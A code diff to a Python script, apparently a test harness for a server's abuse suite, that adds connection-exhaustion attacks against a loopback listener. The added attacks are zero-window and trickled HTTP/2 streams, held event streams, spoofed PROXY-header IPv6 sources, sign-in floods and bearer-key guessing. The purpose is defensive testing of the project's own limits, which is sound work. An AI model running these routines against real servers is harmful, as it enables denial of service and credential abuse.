@@ -1,13 +1,18 @@
 #!/usr/bin/env python3
-"""Floods a listener on the loopback with raw HTTP/2 frames, for the abuse suite.
+"""Attacks a listener on the loopback over HTTP/1.1 and HTTP/2, for the abuse suite.
 
-attack.py KIND HOST PORT SECONDS CONNECTIONS prints, as JSON, how many connections it opened and how many the server closed.
-It needs only Python.
+attack.py KIND HOST PORT SECONDS CONNECTIONS SOURCE [VALUE] prints, as JSON, how many connections it opened, how many
+the server closed, and the statuses of HTTP/1.1 responses. SOURCE is an address, or an IPv6 /48 that PROXY headers name.
+VALUE is a session cookie or a file with keys. It needs only Python.
 """
 import asyncio
+import collections
+import ipaddress
 import json
+import random
 import sys
 import time
+import urllib.parse
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 BATCH = 500
@@ -46,18 +51,113 @@ FLOODS = {
 }
 
 
+# Streams without a window: INITIAL_WINDOW_SIZE is 0.
+NO_WINDOW = frame(4, 0, 0, (4).to_bytes(2, "big") + bytes(4))
+STREAMS = 100
+TICK_S = 1
+# Where PROXY headers come from, in the settings of the attacked node.
+PROXY_ADDRESS = "127.0.1.1"
+
+
+def unread_streams(first, paths):
+    """Requests for large responses, with path and authority as HPACK literals."""
+    for stream, path in zip(range(first, first + 2 * STREAMS, 2), paths):
+        yield frame(1, 5, stream, b"\x82\x86\x04" + bytes([len(path)]) + path.encode() + b"\x01\x01x")
+
+
+def endless(paths):
+    while True:
+        yield from paths
+
+
+def http1(method, path, headers, body=""):
+    lines = [f"{method} {path} HTTP/1.1", "host: localhost", f"content-length: {len(body)}", *headers]
+    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()
+
+
 class Attack:
-    def __init__(self, host, port, seconds):
+    def __init__(self, host, port, seconds, source, value):
         self.host, self.port, self.end = host, port, time.monotonic() + seconds
+        self.network = ipaddress.ip_network(source) if "/" in source else None
+        self.source, self.value = PROXY_ADDRESS if self.network else source, value
         self.opened = self.closed = 0
+        self.statuses = collections.Counter()
 
     def is_running(self):
         return time.monotonic() < self.end
 
     async def connect(self):
-        streams = await asyncio.wait_for(asyncio.open_connection(self.host, self.port), 10)
+        connecting = asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0))
+        reader, writer = await asyncio.wait_for(connecting, 10)
         self.opened += 1
-        return streams
+        if self.network:
+            client = self.network[random.getrandbits(128 - self.network.prefixlen)]
+            writer.write(f"PROXY TCP6 {client} ::1 40000 80\r\n".encode())
+        return reader, writer
+
+    async def hold(self, first, next_bytes):
+        """Sends the first bytes, and more after every tick."""
+        reader, writer = await self.connect()
+        try:
+            writer.write(first)
+            while self.is_running():
+                try:
+                    if not await asyncio.wait_for(reader.read(65536), TICK_S):
+                        break
+                except asyncio.TimeoutError:
+                    writer.write(next_bytes())
+        finally:
+            writer.transport.abort()
+
+    async def unread_http2(self, trickles):
+        """Opens streams without a window, again and again. May let each have a byte at every tick."""
+        paths, opened = endless(self.value.split(",")), []
+
+        def open_streams():
+            first = 2 * len(opened) + 1
+            opened.extend(range(first, first + 2 * STREAMS, 2))
+            return b"".join(unread_streams(first, paths))
+
+        def next_bytes():
+            one = (1).to_bytes(4, "big")
+            updates = b"".join(frame(8, 0, stream, one) for stream in opened[-4 * STREAMS:]) if trickles else b""
+            return updates + open_streams()
+
+        await self.hold(PREFACE + NO_WINDOW + open_streams(), next_bytes)
+
+    async def event_streams(self):
+        cookie = f"cookie: __Host-ipseity={self.value}"
+        await self.hold(http1("GET", "/events", [cookie, "accept: text/event-stream"]), lambda: b"")
+
+    async def requests(self, build):
+        reader, writer = await self.connect()
+        try:
+            while self.is_running():
+                writer.write(build())
+                head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
+                lines = head.decode("latin-1").lower().split("\r\n")
+                self.statuses[lines[0].split()[1]] += 1
+                lengths = [int(line.split(":")[1]) for line in lines if line.startswith("content-length:")]
+                await asyncio.wait_for(reader.readexactly(sum(lengths)), 10)
+                if not lengths or "connection: close" in lines:
+                    break
+        except asyncio.IncompleteReadError:
+            pass
+        finally:
+            writer.transport.abort()
+
+    async def sign_ins(self):
+        def build():
+            fields = {"email": f"member{random.randrange(10**6)}@example.com", "password": "wrong horse battery"}
+            headers = ["content-type: application/x-www-form-urlencoded", "sec-fetch-site: same-origin"]
+            return http1("POST", "/signin", headers, urllib.parse.urlencode(fields))
+
+        await self.requests(build)
+
+    async def unknown_keys(self):
+        with open(self.value) as file:
+            keys = file.read().split()
+        await self.requests(lambda: http1("GET", "/api/v1/ip", [f"authorization: Bearer {random.choice(keys)}"]))
 
     async def repeat(self, once):
         """Reconnects whenever the server closes the connection."""
@@ -92,10 +192,17 @@ class Attack:
 
 
 async def main():
-    kind, host, port, seconds, connections = sys.argv[1:]
-    attack = Attack(host, int(port), float(seconds))
-    await asyncio.gather(*(attack.repeat(lambda: attack.flood(kind)) for _ in range(int(connections))))
-    print(json.dumps({"started": attack.opened, "closed": attack.closed}))
+    kind, host, port, seconds, connections, source, *value = sys.argv[1:]
+    attack = Attack(host, int(port), float(seconds), source, *value or [""])
+    once = {
+        "unread_http2": lambda: attack.unread_http2(trickles=False),
+        "trickle_http2": lambda: attack.unread_http2(trickles=True),
+        "event_streams": attack.event_streams,
+        "sign_ins": attack.sign_ins,
+        "unknown_keys": attack.unknown_keys,
+    }.get(kind, lambda: attack.flood(kind))
+    await asyncio.gather(*(attack.repeat(once) for _ in range(int(connections))))
+    print(json.dumps({"started": attack.opened, "closed": attack.closed, "statuses": attack.statuses}))
 
 
 asyncio.run(main())
